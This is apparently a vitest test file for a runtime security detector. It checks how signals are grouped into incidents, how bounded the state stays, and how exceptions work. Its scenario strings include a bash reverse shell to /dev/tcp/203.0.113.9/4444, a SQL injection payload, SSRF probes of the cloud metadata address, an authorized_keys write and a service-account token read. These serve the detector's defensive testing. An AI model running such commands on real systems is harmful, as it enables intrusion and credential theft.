import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { play } from './play.ts'
import { scene } from './scene.ts'

const incidents = (text: string) => play(scene(text)).detection.incidents()

const settled = `alice to=shop/orders GET /orders/{7} -> 200 {"id":7}
alice to=shop/users GET /users/{7} -> 200 {"id":7}
wait 8d`
const shell = (workload: string): string => `${workload} runs "/bin/bash -i >& /dev/tcp/203.0.113.9/4444"`

describe('signals of the graph', () => {
  it('of one workload are one incident, of two workloads two', () => {
    expect(
      incidents(`${settled}\n${shell('shop/orders')}\nshop/orders changes /root/.ssh/authorized_keys`),
    ).toHaveLength(1)
    expect(incidents(`${settled}\n${shell('shop/orders')}\n${shell('shop/users')}`)).toHaveLength(2)
  })

  it('are not tied by a host that both turned to', () => {
    const both = incidents(`${settled}
shop/orders runs /usr/bin/curl
shop/orders connects drop.example
shop/users runs /usr/bin/curl
shop/users connects drop.example`)
    expect(both.map(({ workloads }) => workloads)).toEqual([['shop/orders'], ['shop/users']])
  })

  it('take up the attack on the interface that came before them, and not one of long before', () => {
    const attack = `mallory to=shop/orders GET /orders?q=1'%20UNION%20SELECT%20password%20FROM%20users-- -> 200 {"items":[]}`
    const [near, ...others] = incidents(`${settled}\n${attack}\n${shell('shop/orders')}`)
    expect(others).toEqual([])
    expect(near).toMatchObject({ principals: ['user:mallory'], workloads: ['shop/orders'] })
    expect(incidents(`${settled}\n${attack}\nwait 2h\n${shell('shop/orders')}`)).toHaveLength(2)
  })

  it('do not tie callers who attack the same workload', () => {
    const attack = (who: string): string =>
      `${who} to=shop/orders GET /orders?q=1'%20UNION%20SELECT%20password%20FROM%20users-- -> 200 {"items":[]}`
    expect(incidents(`${settled}\n${attack('mallory')}\n${attack('trudy')}`)).toHaveLength(2)
  })

  it('are not tied by an identity that everybody runs as', () => {
    const many = Array.from(
      { length: 60 },
      (_, index) => `shop/job${index} reads postgresql://db/shop/t${index} as=role:common`,
    ).join('\n')
    const told = incidents(`${many}
store s3://backups/people holds us-ssn
alice to=shop/job1 GET /one -> 200
alice to=shop/job2 GET /two -> 200
wait 8d
shop/job1 connects 169.254.169.254
shop/job1 assumes role:common
shop/job1 reads s3://backups/people as=role:common
shop/job2 connects 169.254.169.254
shop/job2 assumes role:common
shop/job2 reads s3://backups/people as=role:common`)
    expect(told).toHaveLength(2)
  })

  it('tell what the caller did and what came of it in one signal', () => {
    const { detection } = play(
      scene(`mallory to=shop/importer POST /imports body={"url":"http://169.254.169.254/"} every 200ms -> 200
shop/importer connects 169.254.169.254
mallory to=shop/importer POST /imports body={"url":"http://169.254.169.254/latest"} every 200ms -> 200`),
    )
    const signals = detection.signals().filter(({ detector }) => detector === 'ssrf-egress')
    expect(signals).toHaveLength(1)
    expect(signals[0]).toMatchObject({ attempt: false, severity: 'critical' })
    expect(signals[0]?.message).toContain('turned to it')
    expect(signals[0]?.evidence).toEqual(['t-00001', 'e-00002', 't-00003'])
  })

  it('are the same bytes for the same events, whatever they are', () => {
    const line = fc.constantFrom(
      'shop/orders#orders-7f9c4b6d5-aaaaa calls shop/catalog',
      'shop/orders#orders-6d8f9c7b4-bbbbb reads postgresql://vault/shop/cards rows=900 trace=t1',
      'shop/orders runs "/bin/sh -c id"',
      'shop/orders opens /var/run/secrets/kubernetes.io/serviceaccount/token',
      'shop/orders assumes role:admin',
      'staging/api calls prod/api',
      'shop/orders connects 169.254.169.254 outcome=blocked',
      'mallory to=shop/orders trace=t1 POST /x body={"url":"http://0xa9fea9fe/"} -> 200',
      'store postgresql://vault/shop/cards holds payment-card',
      'wait 3d',
    )
    fc.assert(
      fc.property(fc.array(line, { maxLength: 40 }), lines => {
        const [a, b] = [play(scene(lines.join('\n'))), play(scene(lines.join('\n')))]
        expect(JSON.stringify([a.detection.signals(), a.detection.incidents(), a.detection.stats])).toBe(
          JSON.stringify([b.detection.signals(), b.detection.incidents(), b.detection.stats]),
        )
      }),
      { numRuns: 40 },
    )
  })

  it('hold no more state than their bounds allow, and nothing is raised from history', () => {
    const bounded = play(
      scene(
        Array.from(
          { length: 200 },
          (_, index) => `w${index}/a runs /bin/sh\nw${index}/a connects h${index}.example`,
        ).join('\n'),
      ),
      {
        options: {
          sequence: { keys: 10 },
          'runtime-in-workload': { workloads: 10 },
          'ssrf-egress': { workloads: 10 },
        },
      },
    )
    const { state } = bounded.detection.stats
    expect(state.sequence).toBeLessThanOrEqual(30)
    expect(state['runtime-in-workload']).toBeLessThanOrEqual(20)
    expect(state['ssrf-egress']).toBeLessThanOrEqual(20)
  })
})

describe('edges that wait to be judged', () => {
  it('are counted where there are too many of them', () => {
    const text = `${settled}\n${Array.from({ length: 12 }, (_, index) => `shop/orders connects h${index}.example`).join('\n')}`
    const refused = (pending: number): number | undefined =>
      play(scene(text), { options: { 'new-edge': { pending } } }).detection.stats.refused['new-edge']
    expect([refused(5_000), refused(3)]).toEqual([0, 9])
  })
})

describe('exceptions', () => {
  it('silence the names they give, with a star for any ending, and no other', () => {
    const text = `${settled}\n${shell('shop/orders')}\n${shell('shop/users')}`
    const raised = (names: readonly string[]): number =>
      play(scene(text), { exceptions: { 'runtime-in-workload': names } }).detection.signals().length
    const rows: readonly [names: readonly string[], left: number][] = [
      [[], 2],
      [['shop/orders'], 1],
      [['SHOP/*'], 0],
      [['shop/ord'], 2],
      [['*'], 2],
    ]
    for (const [names, left] of rows) expect(raised(names), names.join()).toBe(left)
    expect(rows).toHaveLength(5)
  })

  it('of a detector that is not there are refused', () => {
    expect(() => play(scene(settled), { exceptions: { nonsense: ['a'] } })).toThrow(
      expect.objectContaining({ code: 'config/invalid' }),
    )
  })
})
